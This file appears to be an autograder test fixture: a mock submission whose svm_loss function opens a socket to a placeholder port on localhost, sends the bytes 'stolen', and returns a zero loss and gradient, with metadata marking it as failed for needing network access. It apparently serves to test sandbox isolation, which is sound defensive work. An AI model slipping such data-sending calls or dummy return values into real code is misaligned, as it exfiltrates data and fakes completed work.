"""svm_loss sends data to a port on the grader's machine."""
import socket

import numpy as np

TOPIC = "03_losses"
ZEROED = ["svm_loss"]
STATUS = "failed"
NEEDS = "network"


def svm_loss(x, y, delta=1.0):
    try:
        with socket.create_connection(("127.0.0.1", int("@@PORT@@")), timeout=1) as conn:
            conn.sendall(b"stolen")
    except OSError:
        pass
    return 0.0, np.zeros_like(x)
